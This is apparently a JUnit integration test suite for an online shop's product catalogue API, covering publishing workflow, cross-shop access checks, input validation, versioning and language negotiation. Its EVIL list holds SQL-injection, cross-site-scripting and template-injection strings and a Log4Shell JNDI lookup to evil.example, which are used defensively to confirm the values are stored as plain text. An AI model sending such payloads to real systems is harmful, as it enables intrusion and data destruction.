package io.drumroll.edge;

import static org.assertj.core.api.Assertions.assertThat;

import io.drumroll.catalog.ContentWriter;
import io.drumroll.catalog.ProductContent;
import io.drumroll.edge.EdgeFixture.Answer;
import io.drumroll.testdb.TestDatabase;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.MethodSource;

/** Products over HTTP with a real catalogue, on each kind of database. */
@ParameterizedClass
@MethodSource("databases")
@SuppressWarnings("NullAway.Init") // opened before each test
class ProductRoutesTest {
    private static final List<String> EVIL = List.of(
            "'; DROP TABLE product; --",
            "\" OR 1=1 /*",
            "<script>alert('x')</script>",
            "<img src=x onerror=alert(1)>",
            "{{constructor.constructor('alert(1)')()}}",
            "${jndi:ldap://evil.example/x}",
            "a\\u0000b \\x00 %00",
            "é ß 茶 🫖 أبجد");

    @Parameter
    private TestDatabase kind;

    @TempDir
    private Path folder;

    private CatalogFixture catalog;

    static Stream<TestDatabase> databases() {
        return TestDatabase.all();
    }

    @BeforeEach
    void open() throws IOException {
        catalog = new CatalogFixture(kind, folder);
    }

    @AfterEach
    void close() {
        catalog.close();
    }

    @Test
    void goesFromADraftToTheShelfAndOff() {
        long id = catalog.draft(CatalogFixture.product("pot"));
        String address = "/v1/products/" + id;
        assertThat(catalog.strangerGets(address).code()).isEqualTo("NOT_FOUND");
        assertThat(catalog.getAs("merchant-1", address).at("state")).isEqualTo("draft");
        assertThat(catalog.postAs("merchant-1", address + "/submission?version=1", "{}")
                        .at("state"))
                .isEqualTo("inReview");
        assertThat(catalog.getAs("operator", "/v1/products/waiting").at("products", "0", "code"))
                .isEqualTo("pot");
        Answer published = catalog.postAs("operator", address + "/approval?version=1", "{}");
        assertThat(published.at("state")).isEqualTo("published");
        Answer seen = catalog.strangerGets(address);
        assertThat(seen.at("title")).isEqualTo("A teapot");
        assertThat(seen.at("variants", "1", "sku")).isEqualTo("2");
        assertThat(seen.at("variants", "1", "options", "0", "value")).isEqualTo("large");
        assertThat(seen.json()).doesNotContainKeys("state", "version", "content", "reason");
        assertThat(catalog.putAs("merchant-1", address + "/price", "{\"variant\":\"large\",\"priceMinor\":2500}")
                        .at("variants", "1", "priceMinor"))
                .isEqualTo("2500");
        assertThat(catalog.postAs("merchant-1", address + "/withdrawal?version=2", "")
                        .at("state"))
                .isEqualTo("withdrawn");
        assertThat(catalog.strangerGets(address).code()).isEqualTo("NOT_FOUND");
    }

    @Test
    void showsAChangeOfAPublishedProductOnlyWhenItIsApproved() {
        long id = catalog.published(CatalogFixture.product("pot"));
        String address = "/v1/products/" + id;
        Answer changed =
                catalog.putAs("merchant-1", address + "?version=1", CatalogFixture.product("pot", "A better teapot"));
        assertThat(changed.at("step")).isEqualTo("review");
        assertThat(changed.at("pending", "texts", "en", "title")).isEqualTo("A better teapot");
        assertThat(catalog.strangerGets(address).at("title")).isEqualTo("A teapot");
        Answer refused =
                catalog.postAs("operator", address + "/refusal?version=2", "{\"reason\":\"better than what?\"}");
        assertThat(refused.at("reason")).isEqualTo("better than what?");
        assertThat(catalog.strangerGets(address).at("title")).isEqualTo("A teapot");
    }

    @Test
    void answersAnotherShopsProductAsOneThatThereIsNot() {
        long id = catalog.draft(CatalogFixture.product("pot"));
        String address = "/v1/products/" + id;
        String content = CatalogFixture.product("pot", "Stolen");
        for (String there : List.of(address, "/v1/products/" + (id + 1))) {
            assertThat(catalog.getAs("merchant-2", there).code()).isEqualTo("NOT_FOUND");
            assertThat(catalog.getAs("merchant-2", there + "/drawing").code()).isEqualTo("NOT_FOUND");
            assertThat(catalog.putAs("merchant-2", there + "?version=1", content)
                            .code())
                    .isEqualTo("NOT_FOUND");
            assertThat(catalog.postAs("merchant-2", there + "/submission?version=1", "")
                            .code())
                    .isEqualTo("NOT_FOUND");
            assertThat(catalog.postAs("merchant-2", there + "/withdrawal?version=1", "")
                            .code())
                    .isEqualTo("NOT_FOUND");
            assertThat(catalog.putAs("merchant-2", there + "/price", "{\"variant\":\"small\",\"priceMinor\":1}")
                            .code())
                    .isEqualTo("NOT_FOUND");
        }
        assertThat(catalog.postAs("merchant-2", "/v1/shops/1/products", content).code())
                .isEqualTo("NOT_ALLOWED");
        assertThat(catalog.getAs("merchant-2", "/v1/shops/1/products").code()).isEqualTo("NOT_ALLOWED");
        assertThat(catalog.getAs("merchant-2", "/v1/shops/1/products/export?format=csv")
                        .code())
                .isEqualTo("NOT_ALLOWED");
        assertThat(catalog.getAs("merchant-1", address).at("title")).isEqualTo("A teapot");
    }

    @Test
    void keepsSqlAndScriptInEveryTextFieldAsTheyAre() {
        int number = 0;
        for (String evil : EVIL) {
            ProductContent plain = CatalogFixture.content("evil-" + number++, evil, evil);
            String name = evil.substring(0, Math.min(30, evil.length()));
            ProductContent content = new ProductContent(
                    plain.code(),
                    plain.category(),
                    evil,
                    plain.origin(),
                    plain.tariffCode(),
                    plain.texts(),
                    new TreeMap<>(Map.of(name, evil)),
                    List.of(),
                    0,
                    plain.variants());
            long id = catalog.published(ContentWriter.product(content));
            Answer seen = catalog.strangerGets("/v1/products/" + id);
            assertThat(seen.at("title")).isEqualTo(evil);
            assertThat(seen.at("description")).isEqualTo(evil);
            assertThat(seen.at("brand")).isEqualTo(evil);
            assertThat(seen.at("attributes", "0", "name")).isEqualTo(name);
            assertThat(seen.at("attributes", "0", "value")).isEqualTo(evil);
            assertThat(catalog.getAs("merchant-1", "/v1/products/" + id).at("content", "brand"))
                    .isEqualTo(evil);
            Answer drawn = catalog.strangerGets("/v1/products/" + id + "/drawing");
            assertThat(drawn.body()).doesNotContain("<script").doesNotContain("<img");
        }
        assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products?limit=100").body())
                .contains("DROP TABLE product");
    }

    @Test
    void refusesTextsThatMisleadAndNamesTheField() {
        for (String title : List.of("Tea\\u0000pot", "Tea\\u202epot", "Tea\\ud800pot", "   ", "Tea\\u200bpot")) {
            String body = CatalogFixture.product("pot", "TITLE").replace("TITLE", title);
            Answer refused = catalog.postAs("merchant-1", "/v1/shops/1/products", body);
            assertThat(refused.status()).as(title).isIn(400, 422);
            assertThat(refused.body()).contains("texts.en.title");
        }
        assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products").at("products"))
                .isEqualTo("[]");
    }

    @Test
    void saysAllThatIsWrongWithAProduct() {
        String body = CatalogFixture.product("pot")
                .replace("kitchen", "nowhere")
                .replace("\"priceMinor\":1900", "\"priceMinor\":-1")
                .replace("\"CN\"", "\"China\"");
        Answer refused = catalog.postAs("merchant-1", "/v1/shops/1/products", body);
        assertThat(refused.code()).isEqualTo("BAD_CONTENT");
        assertThat(refused.body())
                .contains("\"field\":\"category\"")
                .contains("\"field\":\"origin\"")
                .contains("\"field\":\"variants[0].priceMinor\"");
    }

    @Test
    void refusesWhatIsNoProduct() {
        for (String body : List.of(
                "{\"code\":1}", "{\"price\":1}", "{\"code\":\"a\",\"code\":\"b\"}", "[]", "nonsense", "{} {}", "")) {
            Answer refused = catalog.postAs("merchant-1", "/v1/shops/1/products", body);
            assertThat(refused.code()).as(body).isIn("BAD_VALUE", "MALFORMED_JSON");
        }
    }

    @Test
    void changesNothingThatTheCallerHasNotSeen() {
        long id = catalog.draft(CatalogFixture.product("pot"));
        String address = "/v1/products/" + id;
        catalog.putAs("merchant-1", address + "?version=1", CatalogFixture.product("pot", "New"));
        assertThat(catalog.putAs("merchant-1", address + "?version=1", CatalogFixture.product("pot", "Newer"))
                        .code())
                .isEqualTo("CHANGED_MEANWHILE");
        assertThat(catalog.putAs("merchant-1", address, CatalogFixture.product("pot"))
                        .code())
                .isEqualTo("BAD_PARAMETER");
        assertThat(catalog.postAs("merchant-1", "/v1/shops/1/products", CatalogFixture.product("pot"))
                        .code())
                .isEqualTo("CODE_TAKEN");
    }

    @Test
    void answersInTheLanguageThatFitsBest() {
        String address = "/v1/products/" + catalog.published(CatalogFixture.product("pot"));
        Map<String, String> expected = Map.of(
                "zh-CN,zh;q=0.9,en;q=0.1", "zh", "de, en;q=0.5", "en", "de", "en", "zh;q=0", "en", ";;q=,,=", "en");
        expected.forEach((header, language) -> {
            Answer seen = catalog.strangerGets(address, "Accept-Language", header);
            assertThat(seen.at("language")).as(header).isEqualTo(language);
            assertThat(seen.at("title")).isEqualTo(language.equals("zh") ? "茶壶" : "A teapot");
            assertThat(seen.header("Vary")).isEqualToIgnoringCase("Accept-Language");
        });
        for (String asked : List.of("zh", "zh-Hant", "ZH")) {
            assertThat(catalog.strangerGets(address + "?language=" + asked, "Accept-Language", "en")
                            .at("language"))
                    .isEqualTo("zh");
        }
    }

    @Test
    void listsProductsInTheLanguageThatFitsBest() {
        catalog.postAs("merchant-1", "/v1/shops/1/products", CatalogFixture.product("pot"));
        Map<String, String> expected = Map.of("", "A teapot", "?language=zh", "茶壶", "?language=sv", "A teapot");
        expected.forEach((query, title) -> assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products" + query)
                        .at("products", "0", "title"))
                .as(query)
                .isEqualTo(title));
    }

    @Test
    void showsNothingBeforeItsLaunch() {
        String body =
                CatalogFixture.product("pot").replace("\"launchMs\":0", "\"launchMs\":" + (CatalogFixture.NOW_MS + 1));
        long id = catalog.published(body);
        assertThat(catalog.strangerGets("/v1/products/" + id).code()).isEqualTo("NOT_FOUND");
        assertThat(catalog.getAs("merchant-1", "/v1/products/" + id).status()).isEqualTo(200);
        catalog.nowMs.incrementAndGet();
        assertThat(catalog.strangerGets("/v1/products/" + id).status()).isEqualTo(200);
    }

    @Test
    void pagesThroughAShopsProductsByState() {
        for (int i = 0; i < 5; i++) {
            catalog.draft(CatalogFixture.product("pot-" + i));
        }
        catalog.published(CatalogFixture.product("pot-9"));
        Answer first = catalog.getAs("merchant-1", "/v1/shops/1/products?state=draft&limit=3");
        assertThat(first.at("products", "2", "code")).isEqualTo("pot-2");
        String next = first.header("Link").replaceAll("^<([^>]*)>.*", "$1");
        assertThat(next).contains("state=draft").contains("limit=3");
        Answer second = catalog.getAs("merchant-1", next);
        assertThat(second.at("products", "1", "code")).isEqualTo("pot-4");
        assertThat(second.json()).doesNotContainKey("next");
        Answer found = catalog.getAs("merchant-1", "/v1/shops/1/products?q=POT-4%20teapot&limit=3");
        assertThat(found.at("products", "0", "code")).isEqualTo("pot-4");
        assertThat(found.json()).doesNotContainKey("next");
        assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products?q=teapot&limit=1")
                        .header("Link"))
                .contains("q=teapot");
        assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products?q=").code())
                .isEqualTo("BAD_PARAMETER");
        assertThat(catalog.getAs("merchant-1", "/v1/shops/1/products?state=sold")
                        .code())
                .isEqualTo("BAD_PARAMETER");
    }

    @Test
    void approvesAllThatWaitsOfAShop() {
        for (int i = 0; i < 3; i++) {
            long id = catalog.draft(CatalogFixture.product("pot-" + i));
            catalog.postAs("merchant-1", "/v1/products/" + id + "/submission?version=1", "");
        }
        Answer some = catalog.postAs("operator", "/v1/shops/1/products/approval?limit=2", "");
        assertThat(some.at("published") + some.at("more")).isEqualTo("2true");
        Answer rest = catalog.postAs("operator", "/v1/shops/1/products/approval", "");
        assertThat(rest.at("published") + rest.at("more")).isEqualTo("1false");
        assertThat(catalog.strangerGets("/v1/products/3").at("variants", "0", "sku"))
                .isNotEqualTo("null");
    }

    @Test
    void saysThatPublishingIsUnderWayWhileTheEngineIsAway() {
        long id = catalog.draft(CatalogFixture.product("pot"));
        catalog.postAs("merchant-1", "/v1/products/" + id + "/submission?version=1", "");
        catalog.engine.isAway = true;
        Answer away = catalog.postAs("operator", "/v1/products/" + id + "/approval?version=1", "");
        assertThat(away.status() + " " + away.code()).isEqualTo("503 UNDER_WAY");
        assertThat(away.header("Retry-After")).isNotEmpty();
        assertThat(catalog.getAs("merchant-1", "/v1/products/" + id).at("step")).isEqualTo("publishing");
    }

    @Test
    void growsTheTreeOfCategories() {
        String tea = "{\"category\":\"tea\",\"parent\":\"kitchen\",\"names\":{\"en\":\"Tea <b>\",\"zh\":\"茶\"}}";
        assertThat(catalog.putAs("operator", "/v1/categories", tea).at("parent"))
                .isEqualTo("kitchen");
        assertThat(catalog.putAs("operator", "/v1/categories", tea.replace("Tea", "Teas"))
                        .at("names", "en"))
                .isEqualTo("Teas <b>");
        assertThat(catalog.putAs("operator", "/v1/categories", tea.replace("\"kitchen\"", "\"tea\""))
                        .code())
                .isEqualTo("WRONG_STATE");
        assertThat(catalog.putAs("operator", "/v1/categories", tea.replace("\"tea\"", "\"T'--\""))
                        .code())
                .isEqualTo("BAD_CONTENT");
        assertThat(catalog.strangerGets("/v1/categories").at("categories", "1", "names", "zh"))
                .isEqualTo("茶");
    }

    @Test
    void letsPeopleApplyAndAnOperatorDecide() {
        String wish = "{\"name\":\"Maison <i>Léon</i>\",\"kind\":\"import\",\"country\":\"FR\",\"currency\":\"EUR\"}";
        Answer applied = catalog.postAs("buyer-7", "/v1/merchants", wish);
        assertThat(applied.status()).isEqualTo(201);
        assertThat(applied.at("name")).isEqualTo("Maison <i>Léon</i>");
        assertThat(catalog.postAs("buyer-7", "/v1/merchants", wish).code()).isEqualTo("WRONG_STATE");
        assertThat(catalog.postAs("buyer-8", "/v1/merchants", wish).status()).isEqualTo(201);
        assertThat(catalog.getAs("operator", "/v1/merchants?limit=1").json()).containsKey("next");
        String id = applied.at("merchant");
        Answer approved = catalog.postAs("operator", "/v1/merchants/" + id + "/approval", "");
        assertThat(approved.at("state")).isEqualTo("approved");
        assertThat(catalog.owned).containsExactly("107 runs " + approved.at("shop"));
        assertThat(catalog.getAs("buyer-7", "/v1/merchants/mine").at("merchants", "0", "shop"))
                .isEqualTo(approved.at("shop"));
        assertThat(catalog.postAs("operator", "/v1/merchants/2/refusal", "{\"reason\":\"Papers are missing\"}")
                        .at("reason"))
                .isEqualTo("Papers are missing");
        assertThat(catalog.getAs("operator", "/v1/merchants?state=refused").at("merchants", "0", "person"))
                .isEqualTo("108");
        assertThat(catalog.postAs("operator", "/v1/merchants/99/approval", "").code())
                .isEqualTo("NOT_FOUND");
    }
}
